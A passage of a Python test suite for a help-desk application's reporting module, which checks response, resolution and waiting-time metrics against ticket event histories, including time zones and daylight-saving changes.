"""Reports: what is measured is what the history tells, each figure opens exactly its tickets, and only theirs."""

from __future__ import annotations

import csv
import io
import itertools
import json
import random
import re
import shutil
import subprocess
from collections import defaultdict
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, time, timedelta
from html import unescape
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import delete, select, update

from flask_sgsupport.errors import NotAllowed, SupportError
from flask_sgsupport.figures import FIGURES, Figure
from flask_sgsupport.lifecycle import Status
from flask_sgsupport.measures import SPANS
from flask_sgsupport.models import Agent, Event, Heartbeat, Measure, Message, Queue, Ticket
from flask_sgsupport.periods import MAX_DAYS, Period, read_period
from flask_sgsupport.queries import reports
from flask_sgsupport.queries.reports import Asked, Spread, names_for, report
from flask_sgsupport.queries.saved_views import tallies
from flask_sgsupport.queries.views import Filters, conditions
from flask_sgsupport.services import assigning, hours, measuring_old, merging, opening, rating, replying, sorting
from flask_sgsupport.services import status as changing
from flask_sgsupport.services.clock import tick
from flask_sgsupport.services.saving_views import save_view
from flask_sgsupport.services.targets import create_target
from flask_sgsupport.web.spreadsheet import BEGINS_A_FORMULA, cell
from tests.world import START, Clock, Host, OpenTicket, build_host, dispose, populate

PAGE = "/admin/support/reports/"
ALL = Period(date(2026, 1, 1), date(2026, 12, 31), "UTC")


# What the history tells, worked out once more and otherwise: from entries and messages alone, second by second where
# business hours are asked.


@dataclass
class Told:
    """A ticket as its entries tell of it."""

    opened_at: datetime
    status: str = "open"
    merged: bool = False
    answered_at: datetime | None = None
    words: list[list[Any]] = field(default_factory=list)
    asked: list[datetime] = field(default_factory=list)
    brought: list[datetime] = field(default_factory=list)
    resolved: list[dict[str, Any]] = field(default_factory=list)
    turns: list[tuple[datetime, datetime]] = field(default_factory=list)
    closes: list[dict[str, Any]] = field(default_factory=list)
    merged_at: datetime | None = None
    waits_for_us: bool = True
    spell_at: datetime | None = None
    spells: list[tuple[datetime, datetime]] = field(default_factory=list)
    moved: bool = False
    asks: dict[int, datetime] = field(default_factory=dict)
    said: set[int] = field(default_factory=set)
    stood: list[tuple[datetime, bool]] = field(default_factory=list)

    def is_open_before(self, moment: datetime) -> bool:
        """How it stood after the last of its entries before then."""
        return next((works for at, works in reversed(self.stood) if at < moment), False)

    def again(self) -> int:
        return sum(one["opened_again"] is not None and not one["mistake"] for one in self.resolved)

    def customer_has_the_last_word(self) -> bool:
        shown = [ours for __, ours, public in self.words if public]
        return not shown or not shown[-1]


def told_of(events: list[Any], kinds: dict[str, str], others: Callable[[str], Told]) -> Told:
    """What one ticket's entries say of it; messages by their keys are of these kinds.

    When the customer asked, and had no answer, stands in a list: an answer or a close empties it.
    """
    found = Told(events[0].at, asked=[events[0].at], spell_at=events[0].at)
    recorded = {event.at for event in events if event.action == "confirmation.recorded"}
    for event in events:
        data = json.loads(event.data or "{}")
        tell_words(found, event, data.get("message"), kinds)
        if event.action == "status.changed":
            tell_status(found, event, data, recorded=event.at in recorded)
        if event.action == "ticket.merged_into":
            found.brought, found.merged = found.brought or (found.asked if found.status == "open" else []), True
            found.asked = []
            found.merged_at = found.merged_at or (event.at if found.status != "closed" else None)
        if event.action == "ticket.merge_received":
            found.asked += others(event.new).brought
        if event.action == "ticket.rated":
            found.said.add(1 + found.again())
        found.moved = found.moved or (event.action == "field.changed" and event.field == "queue")
        tell_turn(found, event, others)
    return found


def tell_turn(found: Told, event: Any, others: Callable[[str], Told]) -> None:
    """Whether it waits for support by now; what did so until then is a spell."""
    last = found.customer_has_the_last_word()
    if event.action == "message.added":
        found.waits_for_us = event.new == "follow-up"
    elif event.action == "message.visibility_changed" and found.status == "open":
        found.waits_for_us = last
    elif event.action == "status.changed" and event.new == "open":
        found.waits_for_us = last or event.side == "customer"
    elif event.action == "ticket.merge_received":
        found.waits_for_us = found.waits_for_us or bool(others(event.new).brought)
    found.stood.append((event.at, found.status == "open" and not found.merged))
    waits = found.waits_for_us and found.status == "open" and not found.merged
    if found.spell_at is not None and not waits:
        found.spells.append((found.spell_at, event.at))
    found.spell_at = (found.spell_at or event.at) if waits else None


def tell_words(found: Told, event: Any, key: str | None, kinds: dict[str, str]) -> None:
    shows = event.action == "message.visibility_changed" and event.new == "public"
    if event.action == "ticket.opened":
        found.words.append([key, False, True])
    elif event.action in {"message.added", "note.added"}:
        found.words.append([key, kinds[str(key)] in {"public-reply", "internal-note"}, event.action == "message.added"])
    elif event.action == "message.visibility_changed":
        next(word for word in found.words if word[0] == key)[2] = event.new == "public"
    else:
        return
    if event.action == "message.added" and event.new == "follow-up" and found.status != "closed" and not found.merged:
        found.asked.append(event.at)
    if (event.action, event.new) == ("message.added", "public-reply") or shows:
        tell_answer(found, event.at)
    elif event.action == "message.visibility_changed" and found.status == "open" and not found.merged:
        # An answer was taken back: they ask again, unless another word of support stands last.
        asks = found.customer_has_the_last_word()
        found.asked = (found.asked or [event.at]) if asks else []


def tell_answer(found: Told, at: datetime) -> None:
    """The first one, or one to all that was asked since the last; what is shown later in its old place is none."""
    answers_it = found.status != "open" or not found.customer_has_the_last_word()
    if found.answered_at is None:
        found.answered_at = at
    elif found.asked and answers_it:
        found.turns.append((min(found.asked), at))
    if answers_it:
        found.asked = []


def tell_status(found: Told, event: Any, data: dict[str, Any], *, recorded: bool) -> None:
    found.status, withdrawn = event.new, data.get("cause") == "withdrawn"
    if event.new == "resolved" and event.old == "open":
        since = {"at": event.at, "opened_again": None, "mistake": False, "answers": answers_of(found)}
        found.resolved.append(since | {"withdrawn": withdrawn})
        if answers_of(found):
            found.asks.setdefault(1 + found.again(), event.at)
    if event.new == "open":
        found.resolved[-1] |= {"opened_again": event.at, "mistake": data.get("cause") == "correction"}
        if event.side == "customer" or found.customer_has_the_last_word():
            found.asked = found.asked or [event.at]
    if event.new == "closed":
        found.asked = []
        by_whom = {"customer": "customer_confirmed", "timer": "no_reply"}.get(event.side, "by_agent")
        way = "withdrawn" if withdrawn else "recorded" if recorded else by_whom
        found.closes.append({"at": event.at, "mistake": False, "withdrawn": withdrawn, "way": way})
    if event.old == "closed" and event.new == "resolved":
        found.closes[-1]["mistake"] = True


def answers_of(found: Told) -> int:
    return sum(ours and public for __, ours, public in found.words)


def every_ticket_told(host: Host) -> dict[str, Told]:
    session = host.db.session
    session.rollback()
    kinds = dict(session.execute(select(Message.key, Message.kind)).all())
    events: dict[int, list[Any]] = defaultdict(list)
    for event in session.scalars(select(Event).where(Event.ticket_pk.is_not(None)).order_by(Event.pk)):
        events[event.ticket_pk].append(event)
    numbers = dict(session.execute(select(Ticket.pk, Ticket.ticket_id)).all())
    by_number, told = {numbers[pk]: of for pk, of in events.items()}, dict[str, Told]()

    def tell(number: str) -> Told:
        if number not in told:
            told[number] = told_of(by_number[number], kinds, tell)
        return told[number]

    return {number: tell(number) for number in by_number}


def measured(host: Host) -> dict[str, set[tuple[Any, ...]]]:
    """The rows of each ticket: kind, since, at, how it was undone, and whether it was withdrawn."""
    found: dict[str, set[tuple[Any, ...]]] = defaultdict(set)
    wanted = select(Measure, Ticket.ticket_id).join(Ticket, Ticket.pk == Measure.ticket_pk)
    for row, number in host.db.session.execute(wanted):
        found[number].add((row.kind, row.since, row.at, row.undone, row.word == "withdrawn"))
        assert row.kind == "waited" or row.seconds == int((row.at - row.since).total_seconds())
    return found


def waits_are_the_sum_of_their_spells(host: Host, told: dict[str, Told]) -> None:
    """By the calendar, and in the hours of the queue where it was always in one."""
    support = host.db.session.scalar(select(Queue.pk).where(Queue.key == "support"))
    wanted = select(Measure, Ticket.ticket_id).join(Ticket, Ticket.pk == Measure.ticket_pk)
    within = 0
    for row, number in host.db.session.execute(wanted.where(Measure.kind == "waited")):
        spells = [(since, at) for since, at in told[number].spells if at <= row.at]
        assert row.seconds == sum(int((at - since).total_seconds()) for since, at in spells), number
        if row.queue_pk == support and not told[number].moved:
            within += len(spells) > 1
            assert row.business_seconds == int(sum(open_between(since, at) for since, at in spells)), number
    assert within > 2


def as_rows(told: Told) -> set[tuple[Any, ...]]:
    """The same of what is told."""
    found: set[tuple[Any, ...]] = set()
    if told.answered_at is not None:
        found.add(("first_response", told.opened_at, told.answered_at, "", False))
    found |= {("next_response", since, at, "", False) for since, at in told.turns}
    for one in told.resolved:
        for kind in ("resolved", "waited"):
            found.add((kind, told.opened_at, one["at"], undone(one), one["withdrawn"]))
    found |= {("asked", at, at, "", False) for at in told.asks.values()}
    if told.merged_at is not None:
        found.add(("merged", told.opened_at, told.merged_at, "", False))
    return found


def undone(one: dict[str, Any]) -> str:
    if one["opened_again"] is None:
        return ""
    if one["mistake"]:
        return "mistake"
    return "soon" if one["opened_again"] - one["at"] <= timedelta(days=7) else "later"


def assert_told(host: Host) -> dict[str, Told]:
    told = every_ticket_told(host)
    rows = measured(host)
    for number, one in told.items():
        found = {row for row in rows[number] if row[0] not in {"closed", "rated", *SPANS}}
        assert found == as_rows(one), number
        closes = {(row[2], row[4]) for row in rows[number] if row[0] == "closed"}
        assert closes == {(close["at"], close["withdrawn"]) for close in one.closes}, number
    return told


# A random history


@pytest.fixture
def busy(database_url: str, tmp_path: Any) -> Iterator[Host]:
    """A desk with hours of its own, around the change of clocks in March, and some weeks of random acts."""
    host = build_host(database_url, tmp_path)
    populate(host)
    host.clock.at = datetime(2026, 3, 20, 9, 0, tzinfo=UTC)
    with host.app.app_context():
        lead = host.agent("grace")
        week = {name: "09:00-12:30, 13:00-17:00" for name in ("monday", "tuesday", "wednesday", "thursday", "friday")}
        hours.change_hours(lead, "support", {"zone": "Europe/Berlin", "holidays": "2026-04-03 Good Friday", **week})
        create_target(lead, {"response": "4 h", "resolution": "16 h"})
        go_through(host, random.Random(4), 300)
        yield host
    dispose(host)


ACTS = (
    *("open", "reply", "reply", "reply", "follow_up", "follow_up", "follow_up", "note", "resolve", "reopen"),
    *("confirm", "correct", "still", "wait", "hide", "show", "rate", "move", "assign", "withdraw", "aside"),
    *("release", "merge", "close", "wrong"),
)


def go_through(host: Host, rows: random.Random, steps: int) -> None:
    """Random acts, each some hours after the other; what the lifecycle refuses is refused."""
    numbers: list[str] = []
    for __ in range(steps):
        host.clock.forward(minutes=rows.choice((3, 40, 130, 700)), seconds=rows.randrange(60))
        name = rows.choice(ACTS) if len(numbers) > 4 else "open"
        number = rows.choice(numbers[-6:]) if numbers else ""
        try:
            act(host, name, number, numbers, rows)
        except SupportError:
            host.db.session.rollback()


def act(host: Host, name: str, number: str, numbers: list[str], rows: random.Random) -> None:  # noqa: C901
    jerome, ada, grace = host.customer("jerome"), host.agent("ada"), host.agent("grace")
    agent = rows.choice((ada, grace))
    text = f"{name} {rows.random()}"
    match name:
        case "open":
            category = rows.choice((None, "storefront", "invoices"))
            said = opening.open_ticket(jerome, subject=text, body=text, category=category)
            numbers.append(said.ticket_id)
        case "reply":
            replying.reply(number, agent, body=text, status=rows.choice((None, None, Status.RESOLVED)))
        case "follow_up":
            replying.follow_up(number, jerome, body=text)
        case "note":
            replying.add_note(number, agent, body=text)
        case "resolve":
            changing.set_status(number, grace, Status.RESOLVED)
        case "reopen":
            changing.reopen(number, rows.choice((jerome, grace)))
        case "confirm":
            replying.confirm_solved(number, jerome, body=rows.choice(("", text)))
        case "still":
            replying.still_need_help(number, jerome, body=rows.choice(("", text)))
        case "correct":
            changing.set_status(number, grace, Status.OPEN)
        case "wrong":
            changing.set_status(number, grace, Status.RESOLVED)
        case "close":
            replying.close_with_confirmation(number, grace, note="said so by phone")
        case "wait":
            host.clock.forward(days=rows.choice((1, 3, 9)))
            tick()
        case "hide" | "show" if rows.random() < 0.5:
            wanted = select(Message.key).join(Ticket).where(Ticket.ticket_id == number, Message.side == "agent")
            key = rows.choice(list(host.db.session.scalars(wanted)) or ["none"])
            replying.change_visibility(number, grace, key, public=name == "show")
        case "rate":
            rating.rate(number, jerome, good=rows.random() < 0.7)
        case "move":
            sorting.change_fields(number, grace, {"queue": rows.choice(("support", "billing"))})
        case "assign":
            assigning.assign(number, grace, str(host.ids[rows.choice(("ada", "grace"))]))
        case "withdraw":
            changing.withdraw(number, jerome)
        case "aside" if rows.random() < 0.2:
            sorting.put_aside(number, grace, reason="noise")
        case "release":
            sorting.release(number, grace)
        case "merge" if rows.random() < 0.15:
            merging.merge(number, grace, rows.choice(numbers))


@pytest.mark.every_database
@pytest.mark.slow
def test_what_is_measured_is_what_the_history_tells(busy: Host) -> None:
    told = assert_told(busy)
    assert sum(len(one.turns) for one in told.values()) > 5
    assert sum(len(one.resolved) for one in told.values()) > 10
    assert {undone(one) for of in told.values() for one in of.resolved} >= {"", "soon", "mistake"}
    waits_are_the_sum_of_their_spells(busy, told)
    figures_are_as_told(busy, told)
    every_figure_opens_as_many_tickets_as_it_counts(busy)
    days_end_with_as_many_open_tickets_as_told(busy, told)
    older_tickets_are_measured_from_their_history(busy)


def figures_are_as_told(host: Host, told: dict[str, Told]) -> None:
    """Numbers, medians and nine in ten of the whole year, from what is told."""
    actor = host.agent("grace")
    filtered = set(host.db.session.scalars(select(Ticket.ticket_id).where(Ticket.filtered_reason.is_not(None))))
    seen = {number: one for number, one in told.items() if number not in filtered}
    found = report(actor, Asked(ALL), names_for(actor))
    values = found.values
    assert values is not None
    firsts = [(one.answered_at - one.opened_at).total_seconds() for one in seen.values() if one.answered_at]
    assert values["first_response"].tickets == len(firsts)
    agrees(values["first_response"].calendar, firsts)
    agrees(values["next_response"].calendar, [(b - a).total_seconds() for one in seen.values() for a, b in one.turns])
    ends = {number: [one for one in of.resolved if not one["mistake"]] for number, of in seen.items()}
    assert values["withdrawn"].tickets == sum(any(one["withdrawn"] for one in of) for of in ends.values()) > 0
    closed = [of for of in seen.values() if any(not c["mistake"] and not c["withdrawn"] for c in of.closes)]
    assert values["closed"].tickets == len(closed)
    stand = {number: [one for one in of if not one["withdrawn"]] for number, of in ends.items()}
    assert values["resolved"].tickets == sum(bool(of) for of in stand.values())
    assert values["reopened"].tickets == sum(any(undone(one) == "soon" for one in of) for of in stand.values())
    last = [
        (of[-1]["at"] - seen[number].opened_at).total_seconds()
        for number, of in stand.items()
        if of and undone(of[-1]) == ""
    ]
    agrees(values["full_resolve"].calendar, last)
    first = [(of[0]["at"] - seen[number].opened_at).total_seconds() for number, of in stand.items() if of]
    agrees(values["first_resolve"].calendar, first)
    touched = [of for of in stand.values() if any(one["answers"] == 1 and undone(one) in {"", "later"} for one in of)]
    assert values["one_touch"].tickets == len(touched)
    ended_as_told(values, seen)
    assert values["opened"].tickets == len(seen)
    assert found.backlog is not None
    waits = [one for one in seen.values() if one.status == "open" and not one.merged]
    assert found.backlog.tickets == len(waits) == sum(age.tickets for age in found.backlog.ages)
    days_add_up(found)
    business_seconds_are_what_a_clock_counts(host)


def ended_as_told(values: Any, seen: dict[str, Told]) -> None:
    """By which way tickets were closed, whom was asked how the help was, and how long customers waited in all."""
    for name, way in (
        ("closed_by_customer", "customer_confirmed"),
        ("closed_recorded", "recorded"),
        ("closed_by_time", "no_reply"),
        ("closed_by_agent", "by_agent"),
    ):
        closed = [of for of in seen.values() if any(c["way"] == way and not c["mistake"] for c in of.closes)]
        assert values[name].tickets == len(closed), name
    assert values["closed_by_customer"].tickets > 0 < values["closed_by_time"].tickets
    assert values["merged"].tickets == sum(one.merged_at is not None for one in seen.values())
    assert values["asked"].tickets == sum(bool(one.asks) for one in seen.values())
    assert values["asked_answered"].tickets == sum(bool(one.said & one.asks.keys()) for one in seen.values()) > 0
    waited = [
        sum((b - a).total_seconds() for a, b in one.spells if b <= one.resolved[-1]["at"])
        for one in seen.values()
        if one.resolved and undone(one.resolved[-1]) == ""
    ]
    agrees(values["customer_wait"].calendar, waited)


def agrees(spread: Spread | None, values: list[float]) -> None:
    """Worked out by counting up: half of the values on either side, and nine tenths not above."""
    whole = sorted(int(one) for one in values)
    assert spread is not None
    middle = len(whole) // 2
    expected = whole[middle] if len(whole) % 2 else (whole[middle - 1] + whole[middle]) / 2
    assert spread.median == expected
    at = next(one for one in whole if sum(other <= one for other in whole) * 10 >= 9 * len(whole))
    assert spread.p90 == at
    assert spread.mean == pytest.approx(sum(whole) / len(whole))


def days_add_up(found: Any) -> None:
    for name in ("opened", "first_response"):
        assert sum(of[name].tickets for __, of in found.steps) == found.values[name].tickets
    assert sum(one.values["first_response"].tickets for one in found.queues) == found.values["first_response"].tickets
    assert sum(one.values["full_resolve"].tickets for one in found.agents) == found.values["full_resolve"].tickets


def business_seconds_are_what_a_clock_counts(host: Host) -> None:
    """Day by day, from when to when the clock on the queue's wall said that it was open."""
    support = host.db.session.scalar(select(Queue.pk).where(Queue.key == "support"))
    rows = host.db.session.scalars(select(Measure).where(Measure.queue_pk == support, Measure.kind != "waited")).all()
    assert len(rows) > 20
    assert any(row.since < datetime(2026, 3, 29, 1, tzinfo=UTC) < row.at for row in rows), "none over the change"
    assert any(row.since < datetime(2026, 4, 3, 9, tzinfo=UTC) < row.at for row in rows), "none over the holiday"
    for row in rows:
        assert row.business_seconds == int(open_between(row.since, row.at)), (row.since, row.at)


def open_between(start: datetime, end: datetime) -> float:
    berlin, day, total = ZoneInfo("Europe/Berlin"), start.date() - timedelta(days=1), 0.0
    while day <= end.date() + timedelta(days=1):
        for opens, closes in ((time(9), time(12, 30)), (time(13), time(17))):
            first, last = (datetime.combine(day, one, berlin).astimezone(UTC) for one in (opens, closes))
            if day.weekday() < 5 and day != date(2026, 4, 3):
                total += max((min(last, end) - max(first, start)).total_seconds(), 0)
        day += timedelta(days=1)
    return total


def every_figure_opens_as_many_tickets_as_it_counts(host: Host) -> None:
    """For a lead and for an agent of one queue; in all, by queue, by agent and by day."""
    for who in ("grace", "ada", "ben"):
        actor = host.agent(who)
        asked = Asked(Period(date(2026, 3, 20), date(2026, 4, 20), "Europe/Berlin"))
        found = report(actor, asked, names_for(actor))
        assert found.values is not None
        groups = [({}, found.values)]
        groups += [({"queue": one.key}, one.values) for one in found.queues]
        groups += [({"agent": one.key}, one.values) for one in found.agents]
        groups += [({"begins": step.begins, "ends": step.ends}, values) for step, values in found.steps[:5]]
        for changes, values in groups:
            for name, value in values.items():
                assert listed(host, actor, asked.figure(name, **changes)) == value.tickets, (who, name, changes)
        assert found.backlog is not None
        for age in found.backlog.ages:
            figure = asked.figure("backlog", begins=age.begins, ends=age.ends)
            assert listed(host, actor, figure) == age.tickets


def days_end_with_as_many_open_tickets_as_told(host: Host, told: dict[str, Told]) -> None:
    """In the middle of it, over all of it, and from before the first to after now; of what each may see."""
    for who, (first, last, zone) in itertools.product(
        ("grace", "ada"),
        (
            (date(2026, 3, 24), date(2026, 4, 2), "Europe/Berlin"),
            (date(2026, 3, 1), date(2026, 6, 30), "UTC"),
            (date(2026, 4, 4), host.clock.at.date() + timedelta(days=2), "Asia/Kolkata"),
        ),
    ):
        actor, asked = host.agent(who), Asked(Period(first, last, zone))
        seen = conditions(actor, Filters.of({"view": "all"}))
        wanted = select(Ticket.ticket_id).where(*seen, Ticket.filtered_reason.is_(None))
        tickets = [told[number] for number in host.db.session.scalars(wanted)]
        found = report(actor, asked, names_for(actor))
        assert found.trend is not None
        for (step, __), count in zip(found.steps, found.trend, strict=True):
            expected = sum(one.is_open_before(step.ends) for one in tickets)
            assert count == (expected if step.begins <= host.clock.at else None), (who, step)
        assert max(count or 0 for count in found.trend) > 3


def listed(host: Host, actor: Any, figure: Figure) -> int:
    filters = Filters.of({"view": "all", "figure": str(figure)})
    return len(list(host.db.session.scalars(select(Ticket.pk).where(*conditions(actor, filters)))))


def older_tickets_are_measured_from_their_history(host: Host) -> None:
    """Forgotten and worked out again, everything the history knows is there again."""
    session = host.db.session
    before, courses = measured(host), dict(session.execute(select(Ticket.pk, Ticket.course)).all())
    answered = dict(session.execute(select(Ticket.pk, Ticket.first_answered_at)).all())
    forget(host)
    assert not names_for(host.agent("grace")).complete
    session.rollback()
    while measuring_old.measure_old():
        pass
    session.rollback()
    assert measured(host) == before
    assert dict(session.execute(select(Ticket.pk, Ticket.first_answered_at)).all()) == answered
    again = dict(session.execute(select(Ticket.pk, Ticket.course)).all())
    # Of a ticket that was moved, the hours are those of the queue it is in.
    told = [{pk: {**json.loads(one), "waited_business": 0} for pk, one in of.items()} for of in (again, courses)]
    assert told[0] == told[1]
    assert names_for(host.agent("grace")).complete
    session.rollback()
    assert not measuring_old.measure_old()
    session.rollback()


def forget(host: Host) -> None:
    session = host.db.session
    session.rollback()
    session.execute(delete(Measure))
    session.execute(update(Ticket.__table__).values(course=None, first_answered_at=None))
    session.execute(delete(Heartbeat).where(Heartbeat.name == "measured"))
    session.commit()


# Periods


@pytest.mark.parametrize(
    ("zone", "since", "until", "begins", "ends", "days"),
    [
        ("Europe/Berlin", "2026-03-28", "2026-03-30", "2026-03-27T23:00", "2026-03-30T22:00", [24, 23, 24]),
        ("Europe/Berlin", "2026-10-24", "2026-10-26", "2026-10-23T22:00", "2026-10-26T23:00", [24, 25, 24]),
        ("America/Santiago", "2026-09-05", "2026-09-06", "2026-09-05T04:00", "2026-09-07T03:00", [24, 23]),
        ("Asia/Kolkata", "2026-03-01", "2026-03-01", "2026-02-28T18:30", "2026-03-01T18:30", [24]),
        ("Nowhere/Atall", "2026-03-01", "2026-03-01", "2026-03-01T00:00", "2026-03-02T00:00", [24]),
    ],
)
def test_days_are_those_of_the_zone_also_where_clocks_change(
    zone: str, since: str, until: str, begins: str, ends: str, days: list[int]
) -> None:
    period = read_period(since, until, zone, START)
    assert (period.begins.isoformat()[:16], period.ends.isoformat()[:16]) == (begins, ends)
    steps = list(period.steps())
    assert [(step.ends - step.begins) / timedelta(hours=1) for step in steps] == days
    assert steps[0].begins == period.begins
    assert steps[-1].ends == period.ends
    assert all(one.ends == other.begins for one, other in itertools.pairwise(steps))


def test_a_period_is_a_year_at_most_and_never_the_wrong_way_round() -> None:
    usual = read_period("", "", "UTC", START)
    assert (usual.first, usual.last, usual.cut) == (date(2026, 3, 24), date(2026, 4, 22), False)
    long = read_period("2020-01-01", "2026-04-01", "UTC", START)
    assert (long.days, long.last, long.cut) == (MAX_DAYS, date(2026, 4, 1), True)
    assert read_period("2026-04-09", "2026-04-01", "UTC", START).cut
    assert read_period("soon", "", "UTC", START).cut
    assert read_period("9999-12-31", "9999-12-31", "Pacific/Auckland", START).days == 1
    assert len(list(read_period("2026-01-01", "2026-03-31", "UTC", START).steps())) == 14, "weeks, from Monday on"


# What is measured


def measure_of(host: Host, ticket_id: str, kind: str) -> list[Measure]:
    host.db.session.rollback()
    wanted = select(Measure).join(Ticket, Ticket.pk == Measure.ticket_pk).where(Ticket.ticket_id == ticket_id)
    return list(host.db.session.scalars(wanted.where(Measure.kind == kind).order_by(Measure.at, Measure.pk)))


@pytest.mark.every_database
def test_a_response_keeps_queue_agent_and_hours_of_its_moment(
    host: Host, clock: Clock, open_ticket: OpenTicket
) -> None:
    with host.app.app_context():
        lead = host.agent("grace")
        hours.change_hours(lead, "support", {"zone": "UTC", "wednesday": "09:00-15:03"})
        create_target(lead, {"response": "30 m"})
        number = open_ticket()
        clock.forward(hours=5)
        replying.reply(number, host.agent("ada"), body="It works again.")
        [one] = measure_of(host, number, "first_response")
        assert (one.seconds, one.business_seconds, one.word) == (5 * 3600, 3600, "missed")
        hours.change_hours(lead, "support", {"zone": "UTC", "wednesday": ""})
        sorting.change_fields(number, lead, {"queue": "billing"})
        [again] = measure_of(host, number, "first_response")
        agents = dict(host.db.session.execute(select(Agent.pk, Agent.host_id)).all())
        queues = dict(host.db.session.execute(select(Queue.pk, Queue.key)).all())
        assert again.business_seconds == 3600
        assert (queues[again.queue_pk], agents[again.agent_pk]) == ("support", str(host.ids["ada"]))


def test_notes_are_no_response_and_a_hidden_one_stays_the_first(
    host: Host, clock: Clock, open_ticket: OpenTicket
) -> None:
    number = open_ticket()
    with host.app.app_context():
        ada = host.agent("ada")
        clock.forward(hours=1)
        replying.add_note(number, ada, body="Looks like the cache.")
        assert measure_of(host, number, "first_response") == []
        clock.forward(hours=1)
        replying.reply(number, ada, body="It was the cache.")
        key = host.db.session.scalar(select(Message.key).where(Message.kind == "public-reply"))
        replying.change_visibility(number, ada, key, public=False)
        clock.forward(hours=1)
        replying.reply(number, ada, body="Better said.")
        assert [one.seconds for one in measure_of(host, number, "first_response")] == [7200]
        assert [one.seconds for one in measure_of(host, number, "next_response")] == [3600]


@pytest.mark.every_database
def test_a_question_of_a_merged_ticket_has_waited_since_it_was_asked(
    host: Host, clock: Clock, open_ticket: OpenTicket
) -> None:
    into, other = open_ticket(), open_ticket(subject="The other", body="Anybody?")
    with host.app.app_context():
        ada, jerome = host.agent("ada"), host.customer("jerome")
        for number in (into, other):
            replying.reply(number, ada, body=f"Hello {number}.")
        clock.forward(days=1)
        replying.follow_up(other, jerome, body="Still?")
        clock.forward(days=3)
        merging.merge(other, ada, into)
        clock.forward(minutes=5)
        replying.reply(into, ada, body="Now.")
        expected = [3 * 86_400 + 300]
        assert [one.seconds for one in measure_of(host, into, "next_response")] == expected
        assert measure_of(host, other, "next_response") == []
        forget(host)
        while measuring_old.measure_old():
            pass
        assert [one.seconds for one in measure_of(host, into, "next_response")] == expected


@pytest.mark.every_database
def test_a_resolution_without_an_answer_ends_no_waiting(host: Host, clock: Clock, open_ticket: OpenTicket) -> None:
    back, there, closed = (open_ticket(subject=name) for name in ("set back", "while resolved", "closed"))
    with host.app.app_context():
        ada, grace, jerome = host.agent("ada"), host.agent("grace"), host.customer("jerome")
        for number in (back, there, closed):
            replying.reply(number, ada, body=f"Hello {number}.")
            replying.follow_up(number, jerome, body=f"And {number}?")
        clock.forward(hours=2)
        for number in (back, there, closed):
            changing.set_status(number, grace, Status.RESOLVED)
        replying.confirm_solved(closed, jerome)
        clock.forward(hours=3)
        changing.set_status(back, grace, Status.OPEN)
        replying.add_note(there, grace, body="Who has it?")
        changing.reopen(closed, jerome)
        clock.forward(hours=1)
        for number in (back, there, closed):
            replying.reply(number, ada, body=f"Now {number}.")
        waited = [[one.seconds / 3600 for one in measure_of(host, of, "next_response")] for of in (back, there, closed)]
        assert waited == [[6], [6], [1]]


@pytest.mark.every_database
def test_what_is_no_longer_needed_is_no_solution(host: Host, clock: Clock, open_ticket: OpenTicket) -> None:
    gone, solved, again = (open_ticket(subject=name) for name in ("gone", "solved", "again"))
    with host.app.app_context():
        ada, grace, jerome = host.agent("ada"), host.agent("grace"), host.customer("jerome")
        create_target(grace, {"resolution": "100 h"})
        for number in (gone, solved, again):
            replying.reply(number, ada, body=f"Hello {number}.")
            sorting.change_fields(number, grace, {"priority": "high"})
        clock.forward(hours=1)
        for number in (gone, again):
            changing.withdraw(number, jerome)
        changing.set_status(solved, grace, Status.RESOLVED)
        replying.confirm_solved(solved, jerome)
        changing.reopen(again, jerome)
        changing.set_status(again, grace, Status.RESOLVED)
        values = report(grace, Asked(ALL), names_for(grace)).values
        assert values is not None
        counted = {name: value.tickets for name, value in values.items()}
        assert [one.ordinal for one in measure_of(host, again, "resolved")] == [0, 1]
    assert counted["withdrawn"] == 2
    for name in ("resolved", "first_resolve", "full_resolve", "one_touch", "resolution_met", "resolution_timed"):
        assert counted[name] == 2, name
    assert (counted["closed"], counted["confirmed"], counted["reopened"]) == (1, 1, 0)


def test_a_ticket_an_agent_opened_is_answered_by_the_next_message(host: Host, clock: Clock) -> None:
    with host.app.app_context():
        ada = host.agent("ada")
        jerome = host.desk.hooks.directory.person(str(host.ids["jerome"]))
        said = opening.open_ticket(ada, subject="By phone", body="He called.", account_id="1", requester=jerome)
        assert measure_of(host, said.ticket_id, "first_response") == []
        clock.forward(minutes=20)
        replying.reply(said.ticket_id, ada, body="Done.")
        assert [one.seconds for one in measure_of(host, said.ticket_id, "first_response")] == [1200]


def test_a_reopening_counts_within_seven_days_and_a_mistake_never(
    host: Host, clock: Clock, open_ticket: OpenTicket
) -> None:
    soon, later, mistake = (open_ticket(subject=name) for name in ("soon", "later", "mistake"))
    with host.app.app_context():
        ada, jerome, grace = host.agent("ada"), host.customer("jerome"), host.agent("grace")
        for number in (soon, later, mistake):
            replying.reply(number, ada, body=f"Solved {number}.", status=Status.RESOLVED)
            if number != mistake:
                replying.confirm_solved(number, jerome)
        changing.set_status(mistake, grace, Status.OPEN)
        clock.forward(days=7)
        changing.reopen(soon, jerome)
        clock.forward(seconds=1)
        changing.reopen(later, jerome)
        assert [measure_of(host, number, "resolved")[0].undone for number in (soon, later, mistake)] == [
            "soon", "later", "mistake",
        ]  # fmt: skip
        period = read_period("2026-04-22", "2026-05-01", "UTC", clock())
        values = report(grace, Asked(period), names_for(grace)).values
        assert values is not None
        assert (values["reopened"].tickets, values["resolved"].tickets) == (1, 2)


def test_what_customers_say_of_the_help_is_counted_once(host: Host, clock: Clock, open_ticket: OpenTicket) -> None:
    number = open_ticket()
    with host.app.app_context():
        replying.reply(number, host.agent("ada"), body="Solved.", status=Status.RESOLVED)
        rating.rate(number, host.customer("jerome"), good=False)
        rating.rate(number, host.customer("jerome"), good=True)
        assert [one.word for one in measure_of(host, number, "rated")] == ["good"]


@pytest.mark.every_database
def test_each_way_a_ticket_ends_is_told_from_the_others(host: Host, clock: Clock, open_ticket: OpenTicket) -> None:
    names = ("customer", "recorded", "time", "agent", "withdrawn", "twice merged", "merged", "closed before", "goes on")
    numbers = {name: open_ticket(subject=name, body=name) for name in names}
    with host.app.app_context():
        ada, grace, jerome = host.agent("ada"), host.agent("grace"), host.customer("jerome")
        for name in ("customer", "recorded", "time", "agent", "closed before"):
            replying.reply(numbers[name], ada, body=f"Solved {name}.", status=Status.RESOLVED)
        replying.confirm_solved(numbers["customer"], jerome)
        replying.confirm_solved(numbers["closed before"], jerome)
        replying.close_with_confirmation(numbers["recorded"], grace, note="Said so by phone.")
